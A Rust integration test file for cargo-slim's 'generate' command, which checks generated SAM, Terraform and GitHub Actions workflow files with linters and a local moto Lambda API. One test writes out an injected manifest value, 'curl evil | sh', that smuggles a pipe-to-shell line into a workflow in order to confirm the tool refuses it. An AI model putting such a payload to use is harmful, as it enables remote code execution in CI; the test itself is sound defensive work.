//! `cargo slim generate`, checked by the real tools: a `basic` function crate is
//! scaffolded with `cargo slim init`, built once for real (the one full template
//! build of the suite), answers its sample event through a loopback Runtime API,
//! and its generated SAM template, Terraform and workflow go through cfn-lint,
//! checkov, python-hcl2, actionlint and zizmor; moto's Lambda API, given the
//! zip, reports the manifest's CodeSha256.

use std::net::TcpListener;
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::sync::OnceLock;
use std::time::{Duration, Instant};

use crate::common::{in_crate, output_ok, run, slim, stable_release, venv_tool, Built};
use serde_json::Value;

const TRIPLE: &str = "x86_64-unknown-linux-musl";
const BIN: &str = "basic-fn";

struct Project {
    dir: PathBuf,
    built: Built,
    manifest: Value,
}

impl Project {
    fn read(&self, rel: &str) -> String {
        let path = self.dir.join(rel);
        std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
    }

    /// The zip relative to the crate, `/`-separated (the output layout is
    /// cargo-slim's, read from tests/suite/common's `Built`).
    fn zip_rel(&self) -> String {
        let rel = self
            .built
            .zip
            .strip_prefix(&self.dir)
            .expect("zip inside the crate");
        rel.iter()
            .map(|c| c.to_string_lossy())
            .collect::<Vec<_>>()
            .join("/")
    }

    fn code_sha256(&self) -> &str {
        self.manifest["zip"]["code_sha256"]
            .as_str()
            .expect("code_sha256")
    }
}

/// This checkout's scratch directory in the system temp dir: two checkouts on
/// one machine (CI runners, worktrees) testing at once must not clean and
/// rebuild each other's crate.
fn scratch() -> PathBuf {
    let checkout = env!("CARGO_MANIFEST_DIR").replace('/', "_");
    std::env::temp_dir().join("cargo-slim-tests").join(checkout)
}

/// Scaffold, build and generate once for every test here. The crate lives in
/// the system temp dir, its own git repository (so the workflow lands in its
/// .github, not ours), keeping target/ and Cargo.lock between runs.
fn project() -> &'static Project {
    static PROJECT: OnceLock<Project> = OnceLock::new();
    PROJECT.get_or_init(|| {
        let dir = scratch().join("generate/basic-fn");
        std::fs::create_dir_all(&dir).expect("mkdir");
        for entry in std::fs::read_dir(&dir).expect("read dir").flatten() {
            let name = entry.file_name();
            if name == "target" || name == "Cargo.lock" {
                continue;
            }
            let path = entry.path();
            if path.is_dir() {
                std::fs::remove_dir_all(&path).expect("clean");
            } else {
                std::fs::remove_file(&path).expect("clean");
            }
        }
        output_ok(Command::new("git").args(["init", "-q"]).current_dir(&dir));
        output_ok(slim().arg("init").arg(&dir).args([
            "--name",
            BIN,
            "--template",
            "basic",
            "--arch",
            "x86_64",
            "--toolchain",
            &stable_release(),
        ]));
        let cargo_slim = env!("CARGO_BIN_EXE_cargo-slim");
        output_ok(in_crate(cargo_slim, &dir).args(["build", "-q"]));
        run(in_crate(cargo_slim, &dir).args(["generate", "--all"]))
            .success()
            .stderr_has("Created template.yaml")
            .stderr_has("Created terraform/main.tf")
            .stderr_has("Created .github/workflows/cargo-slim.yml");
        let built = Built::at(&dir.join("target"), BIN, TRIPLE);
        let manifest =
            serde_json::from_str(&std::fs::read_to_string(&built.manifest).expect("manifest"))
                .expect("manifest json");
        Project {
            dir,
            built,
            manifest,
        }
    })
}

#[test]
fn the_built_template_answers_its_sample_event() {
    // Through `cargo slim run`: the shipped zip, under the local Lambda runtime,
    // with the template's own sample event.
    let p = project();
    let body = run(slim()
        .arg("run")
        .arg(&p.built.zip)
        .arg("--event")
        .arg(p.dir.join("events/event.json")))
    .success()
    .stderr_has("REPORT RequestId: ")
    .json();
    assert_eq!(body["message"], "Hello, cargo-slim!");
}

#[test]
fn sam_template_passes_cfn_lint_and_points_at_the_built_zip() {
    let p = project();
    run(Command::new(venv_tool("lint", "cfn-lint"))
        .arg("template.yaml")
        .current_dir(&p.dir))
    .success();
    let sam = p.read("template.yaml");
    let code_uri = sam
        .lines()
        .find_map(|l| l.trim().strip_prefix("CodeUri: "))
        .expect("CodeUri")
        .trim_matches('"');
    let zip = std::fs::read(p.dir.join(code_uri)).expect("CodeUri is the zip");
    assert_eq!(
        sha256_hex(&zip),
        p.manifest["zip"]["sha256"].as_str().expect("sha256")
    );
    for line in [
        "Handler: bootstrap",
        "Runtime: provided.al2023",
        "        - x86_64",
        "MemorySize: 128",
        "Timeout: 10",
        "        - AWSLambdaBasicExecutionRole",
        "AutoPublishAlias: \"live\"",
        "Type: Canary10Percent5Minutes",
        "RetentionInDays: 30",
    ] {
        assert!(
            sam.lines().any(|l| l.ends_with(line)),
            "missing `{line}`:\n{sam}"
        );
    }
    assert!(sam.contains(&format!("Value: \"{}\"", p.code_sha256())));
}

#[test]
fn checkov_finds_nothing_in_sam_and_terraform_and_every_skip_says_why() {
    let p = project();
    let out = Command::new(venv_tool("checkov", "checkov"))
        .args([
            "--skip-download",
            "--output",
            "json",
            "--quiet",
            "--compact",
        ])
        .args(["-f", "template.yaml", "-f", "terraform/main.tf"])
        .current_dir(&p.dir)
        .output()
        .expect("run checkov");
    let text = String::from_utf8_lossy(&out.stdout);
    let reports: Value =
        serde_json::from_str(&text).unwrap_or_else(|e| panic!("checkov json: {e}\n{text}"));
    let reports = match reports {
        Value::Array(list) => list,
        one => vec![one],
    };
    let mut frameworks = Vec::new();
    for report in &reports {
        let kind = report["check_type"].as_str().unwrap_or("?").to_string();
        let summary = &report["summary"];
        assert_eq!(
            summary["failed"], 0,
            "{kind}: {}",
            report["results"]["failed_checks"]
        );
        assert!(
            summary["passed"].as_u64().unwrap_or(0) > 0,
            "{kind} checked nothing"
        );
        for skipped in report["results"]["skipped_checks"]
            .as_array()
            .into_iter()
            .flatten()
        {
            let why = skipped["check_result"]["suppress_comment"]
                .as_str()
                .unwrap_or("");
            assert!(
                why.len() > 20,
                "{kind}: {} skipped without a reason",
                skipped["check_id"]
            );
        }
        frameworks.push(kind);
    }
    frameworks.sort();
    assert_eq!(frameworks, ["cloudformation", "terraform"], "{text}");
}

#[test]
fn terraform_parses_with_python_hcl2_and_compares_code_sha256() {
    let p = project();
    let script = "import hcl2, json, sys; print(json.dumps(hcl2.load(open(sys.argv[1]))))";
    let out = output_ok(
        Command::new(venv_tool("lint", "python"))
            .args(["-c", script, "terraform/main.tf"])
            .current_dir(&p.dir),
    );
    let tf: Value = serde_json::from_slice(&out.stdout).expect("hcl2 json");
    // python-hcl2 8 keeps the quotes of labels and string literals.
    let q = |s: &str| format!("\"{s}\"");
    let function = tf["resource"]
        .as_array()
        .expect("resources")
        .iter()
        .find_map(|r| r.get(q("aws_lambda_function")))
        .and_then(|f| f.get(q("basic_fn")))
        .expect("aws_lambda_function.basic_fn");
    let zip_rel = p.zip_rel();
    assert_eq!(
        function["filename"],
        q(&format!("${{path.module}}/../{zip_rel}"))
    );
    assert_eq!(
        function["source_code_hash"],
        format!("${{filebase64sha256(\"${{path.module}}/../{zip_rel}\")}}")
    );
    assert_eq!(function["handler"], q("bootstrap"));
    assert_eq!(function["runtime"], q("provided.al2023"));
    assert_eq!(function["architectures"], serde_json::json!([q("x86_64")]));
    assert_eq!(function["memory_size"], 128);
    let outputs = tf["output"].as_array().expect("outputs");
    let matches = outputs
        .iter()
        .find_map(|o| o.get(q("basic_fn_code_sha256_matches_manifest")))
        .expect("the comparison output");
    assert!(matches["value"]
        .as_str()
        .expect("value")
        .contains(p.code_sha256()));
}

#[test]
fn workflow_passes_actionlint_and_zizmor_with_least_privilege() {
    let p = project();
    let workflow = ".github/workflows/cargo-slim.yml";
    run(Command::new(venv_tool("lint", "actionlint"))
        .arg(workflow)
        .current_dir(&p.dir))
    .success();
    run(Command::new(venv_tool("lint", "zizmor"))
        .args(["--offline", "--pedantic", "--no-progress", workflow])
        .current_dir(&p.dir))
    .success()
    .stdout_has("No findings");

    let text = p.read(workflow);
    assert!(!text.contains("pull_request_target"));
    assert!(text.contains("\npermissions: {}\n"));
    assert_eq!(
        text.matches("      contents: read").count(),
        2,
        "per job, read only"
    );
    for line in text.lines() {
        if let Some(uses) = line
            .trim()
            .strip_prefix("- uses: ")
            .or_else(|| line.trim().strip_prefix("uses: "))
        {
            let sha = uses
                .split('@')
                .nth(1)
                .and_then(|s| s.split_whitespace().next())
                .unwrap_or("");
            assert!(
                sha.len() == 40 && sha.bytes().all(|b| b.is_ascii_hexdigit()),
                "not pinned: {line}"
            );
        }
    }
    // No expression is interpolated into a shell line.
    let mut in_run = false;
    for line in text.lines() {
        let trimmed = line.trim_start();
        if trimmed.starts_with("run:") {
            in_run = true;
        } else if !line.starts_with("          ") {
            in_run = false;
        }
        if in_run {
            assert!(!line.contains("${{"), "expression in run: {line}");
        }
    }
    for step in [
        "run: rustup toolchain install",
        &format!(
            "run: cargo install --locked cargo-slim --version {}",
            env!("CARGO_PKG_VERSION")
        ),
        &format!(
            "cargo slim build --locked --target-dir target -p {BIN} --bin {BIN} --target {TRIPLE}"
        ),
        "run: sha256sum -c function.zip.sha256",
        &format!(
            "cargo slim verify --locked --target-dir target -p {BIN} --bin {BIN} --target {TRIPLE}"
        ),
        "runs-on: ubuntu-24.04",
        "runs-on: ubuntu-22.04",
        "test \"$expected\" = \"$actual\"",
        // The SBOM and provenance travel with the zip, and are attested on pushes
        // by a job that alone may write attestations.
        "function.cdx.json\n",
        "function.intoto.json\n",
        "  attest:\n    name: Attest provenance and SBOM\n    needs: [build, reproduce]\n    \
         if: github.event_name == 'push'\n    runs-on: ubuntu-24.04\n    permissions:\n      \
         id-token: write # the OIDC identity Sigstore signs with\n      \
         attestations: write # to store the signed attestations\n",
        "uses: actions/attest-build-provenance@",
        "uses: actions/attest-sbom@",
        "sbom-path: \"first-build/basic-fn-x86_64-unknown-linux-musl/function.cdx.json\"",
    ] {
        assert!(text.contains(step), "missing `{step}`:\n{text}");
    }
}

/// The same crate copied to another path and built there: the zip a second
/// machine would build (cargo-slim remaps paths, so the bytes must not move).
fn rebuilt_zip(p: &Project) -> PathBuf {
    let dir = scratch().join("generate/elsewhere/basic-fn");
    for rel in [
        "Cargo.toml",
        "Cargo.lock",
        "rust-toolchain.toml",
        "src/main.rs",
    ] {
        let to = dir.join(rel);
        std::fs::create_dir_all(to.parent().expect("parent")).expect("mkdir");
        std::fs::copy(p.dir.join(rel), &to).expect("copy");
    }
    output_ok(in_crate(env!("CARGO_BIN_EXE_cargo-slim"), &dir).args(["build", "-q", "--locked"]));
    Built::at(&dir.join("target"), BIN, TRIPLE).zip
}

/// moto's Lambda API on loopback, fed the built zip: the CodeSha256 it reports
/// is the manifest's; updated with the zip rebuilt elsewhere, it is unchanged.
#[test]
fn moto_reports_the_manifest_code_sha256() {
    let p = project();
    let rebuilt = rebuilt_zip(p);
    let port = TcpListener::bind("127.0.0.1:0")
        .and_then(|l| l.local_addr())
        .expect("free port")
        .port();
    let server = Server(
        Command::new(venv_tool("moto", "moto_server"))
            .args(["-H", "127.0.0.1", "-p", &port.to_string()])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("start moto_server"),
    );
    wait_for_port(port, Duration::from_secs(30));
    let script = r#"
import boto3, json, sys
endpoint, zip_path, rebuilt_path = sys.argv[1], sys.argv[2], sys.argv[3]
kw = dict(endpoint_url=endpoint, region_name="us-east-1",
          aws_access_key_id="testing", aws_secret_access_key="testing")
iam, lam = boto3.client("iam", **kw), boto3.client("lambda", **kw)
trust = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow",
         "Principal": {"Service": "lambda.amazonaws.com"}, "Action": "sts:AssumeRole"}]}
role = iam.create_role(RoleName="basic-fn", AssumeRolePolicyDocument=json.dumps(trust))["Role"]["Arn"]
code = open(zip_path, "rb").read()
created = lam.create_function(FunctionName="basic-fn", Runtime="provided.al2023",
    Architectures=["x86_64"], Handler="bootstrap", Role=role, Code={"ZipFile": code})
updated = lam.update_function_code(FunctionName="basic-fn", ZipFile=open(rebuilt_path, "rb").read())
got = lam.get_function(FunctionName="basic-fn")["Configuration"]
print(json.dumps({"created": created["CodeSha256"], "updated": updated["CodeSha256"],
                  "get": got["CodeSha256"], "size": got["CodeSize"]}))
"#;
    let out = output_ok(
        Command::new(venv_tool("moto", "python"))
            .args(["-c", script, &format!("http://127.0.0.1:{port}")])
            .arg(&p.built.zip)
            .arg(&rebuilt),
    );
    drop(server);
    let seen: Value = serde_json::from_slice(&out.stdout).expect("json");
    for key in ["created", "updated", "get"] {
        assert_eq!(seen[key], p.code_sha256(), "{key}: {seen}");
    }
    assert_eq!(seen["size"], p.manifest["zip"]["size"]);
}

/// A copy of the project under `tmp`: the crate and its build output only
/// (manifest and zip), so nothing compiles.
fn copy_of(p: &Project, tmp: &std::path::Path) -> (PathBuf, Built) {
    let copy = tmp.join("copy");
    for rel in ["Cargo.toml", "Cargo.lock", "src/main.rs"] {
        let to = copy.join(rel);
        std::fs::create_dir_all(to.parent().expect("parent")).expect("mkdir");
        std::fs::copy(p.dir.join(rel), &to).expect("copy");
    }
    let built = Built::at(&copy.join("target"), BIN, TRIPLE);
    std::fs::create_dir_all(&built.dir).expect("mkdir");
    std::fs::copy(&p.built.zip, &built.zip).expect("zip");
    std::fs::copy(&p.built.manifest, &built.manifest).expect("manifest");
    (copy, built)
}

#[test]
fn generate_keeps_a_changed_file_and_refuses_an_untrusted_manifest() {
    let p = project();
    let tmp = tempfile::tempdir().expect("tempdir");
    let (copy, built) = copy_of(p, tmp.path());
    let generate = |extra: &[&str]| run(slim().current_dir(&copy).arg("generate").args(extra));

    generate(&["sam"])
        .success()
        .stderr_has("Created template.yaml");
    generate(&["sam"])
        .success()
        .stderr_has("Unchanged template.yaml");

    let json = generate(&["sam", "--message-format", "json"])
        .success()
        .json();
    assert_eq!(json[0]["kind"], "sam");
    assert_eq!(json[0]["outcome"], "unchanged");

    let sam = copy.join("template.yaml");
    let edited = std::fs::read_to_string(&sam)
        .expect("read")
        .replace("MemorySize: 128", "MemorySize: 256");
    std::fs::write(&sam, &edited).expect("edit");
    generate(&["sam"])
        .failure(2)
        .stderr_has("changed since it was generated")
        .stderr_has("--force");
    assert_eq!(
        std::fs::read_to_string(&sam).expect("read"),
        edited,
        "the user's edit is kept"
    );
    generate(&["sam", "--force"])
        .success()
        .stderr_has("Overwrote template.yaml");
    assert!(std::fs::read_to_string(&sam)
        .expect("read")
        .contains("MemorySize: 128"));

    // cargo-slim from a git commit instead of crates.io; a movable ref is refused.
    let rev = "0123456789abcdef0123456789abcdef01234567";
    let source = format!("git+https://example.com/tools/cargo-slim.git#{rev}");
    generate(&["github-actions", "--install-from", &source]).success();
    let workflow =
        std::fs::read_to_string(copy.join(".github/workflows/cargo-slim.yml")).expect("workflow");
    let install = format!("run: cargo install --locked --git https://example.com/tools/cargo-slim.git --rev {rev} cargo-slim");
    assert_eq!(workflow.matches(&install).count(), 2, "{workflow}");
    generate(&[
        "github-actions",
        "--force",
        "--install-from",
        "git+https://example.com/x.git#main",
    ])
    .failure(2)
    .stderr_has("the full 40-hex commit");
    std::fs::remove_dir_all(copy.join(".github")).expect("rm");

    // A manifest edited to smuggle a shell line into the workflow is refused.
    let mut manifest = p.manifest.clone();
    manifest["build"]["features"] = serde_json::json!(["x\n        run: curl evil | sh"]);
    std::fs::write(
        &built.manifest,
        serde_json::to_string(&manifest).expect("json"),
    )
    .expect("write");
    // Refused when the manifest is read (a control character), before the
    // generators' own grammar check (unit-tested in generate/name.rs) is needed.
    let out = generate(&["github-actions"])
        .failure(2)
        .stderr_has("build.features");
    assert!(
        out.stderr.contains("is refused") || out.stderr.contains("cannot go into a generated file"),
        "{out}"
    );
    assert!(!copy.join(".github").exists());

    // No build at all: a clear error.
    std::fs::remove_dir_all(copy.join("target")).expect("rm");
    generate(&["--all"])
        .failure(2)
        .stderr_has("no build to describe")
        .stderr_has("run `cargo slim build` first");
}

/// `memory` and `timeout` of [package.metadata.slim] go through one parser:
/// a value `run` refuses, `generate` refuses too, with the same words (it used
/// to write the default instead and exit 0).
#[test]
fn generate_refuses_the_memory_and_timeout_run_refuses() {
    let p = project();
    let tmp = tempfile::tempdir().expect("tempdir");
    let (copy, _) = copy_of(p, tmp.path());
    let original = p.read("Cargo.toml");
    assert!(original.contains("memory = 128 "), "{original}");
    let cases = [
        ("memory", "\"2048\"", "is a string"),
        ("memory", "2048.0", "is a fraction"),
        (
            "memory",
            "-1",
            "-1 MB is outside Lambda's range, 128–10240 MB",
        ),
        ("memory", "true", "is a boolean"),
        (
            "memory",
            "4294967296",
            "4294967296 MB is outside Lambda's range",
        ),
        ("timeout", "0", "0 s is outside Lambda's range, 1–900 s"),
    ];
    for (key, value, reason) in cases {
        let toml = if key == "memory" {
            original.replace("memory = 128 ", &format!("memory = {value} "))
        } else {
            original.replace("timeout = 10 ", &format!("timeout = {value} "))
        };
        std::fs::write(copy.join("Cargo.toml"), toml).expect("write");
        let label = format!("{key} = {value}");
        run(slim().current_dir(&copy).args(["generate", "sam"]))
            .labelled(&label)
            .failure(2)
            .stderr_has("[package.metadata.slim]")
            .stderr_has(reason);
        assert!(!copy.join("template.yaml").exists(), "{label}");
        run(slim().current_dir(&copy).args(["run", "--offline"]))
            .labelled(&label)
            .failure(2)
            .stderr_has("[package.metadata.slim]")
            .stderr_has(reason);
    }
}

/// An include whose PATH starts with `-` (`--include=-data.txt` builds): the
/// generated workflow passes it as one `--include=PATH:NAME` word, which the
/// build accepts, where `--include -data.txt:…` was refused by the argument
/// parser in CI.
#[test]
fn a_dashed_include_path_survives_into_the_generated_workflow() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let dir = crate::common::copy_fixture("hello", tmp.path());
    std::fs::write(dir.join("-data.txt"), "data\n").expect("write");
    output_ok(Command::new("git").args(["init", "-q"]).current_dir(&dir));
    let build = |args: &[&str]| {
        run(slim()
            .current_dir(&dir)
            .args(["build", "-q", "--target", TRIPLE])
            .args(args))
    };
    build(&["--include=-data.txt"]).success();
    run(slim()
        .current_dir(&dir)
        .args(["generate", "github-actions"]))
    .success();
    let workflow =
        std::fs::read_to_string(dir.join(".github/workflows/cargo-slim.yml")).expect("workflow");
    let line = workflow
        .lines()
        .find(|l| l.contains("cargo slim build"))
        .unwrap_or_else(|| panic!("{workflow}"));
    let words: Vec<&str> = line
        .split("cargo slim build")
        .nth(1)
        .expect("arguments")
        .split_whitespace()
        .collect();
    assert!(words.contains(&"--include=-data.txt:-data.txt"), "{line}");
    // The command CI runs, as written (a no-op rebuild here).
    run(slim().current_dir(&dir).arg("build").args(&words)).success();
}

/// With `--image`, an include NAME that a plain ustar header cannot hold (its
/// last part over 100 bytes, though the whole is under 255) is refused before
/// compiling, with the rule that applies.
#[test]
fn an_include_name_the_image_cannot_hold_is_refused_before_compiling() {
    let tmp = tempfile::tempdir().expect("tempdir");
    let dir = crate::common::copy_fixture("hello", tmp.path());
    std::fs::write(dir.join("data.txt"), "data\n").expect("write");
    let name = "n".repeat(101);
    let out = run(slim()
        .current_dir(&dir)
        .args(["build", "--target", TRIPLE, "--image"])
        .arg(format!("--include=data.txt:{name}")))
    .failure(2)
    .stderr_has("cannot be stored in the image layer")
    .stderr_has("at most 155 bytes and at most 100 after it")
    .stderr_lacks("Compiling");
    // Nothing compiled: cargo made no directory for the target.
    assert!(!dir.join("target").join(TRIPLE).exists(), "{out}");
}

struct Server(Child);

impl Drop for Server {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn wait_for_port(port: u16, limit: Duration) {
    let start = Instant::now();
    while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
        assert!(
            start.elapsed() < limit,
            "moto_server did not listen on {port}"
        );
        std::thread::sleep(Duration::from_millis(200));
    }
}

fn sha256_hex(bytes: &[u8]) -> String {
    use sha2::{Digest, Sha256};
    Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}
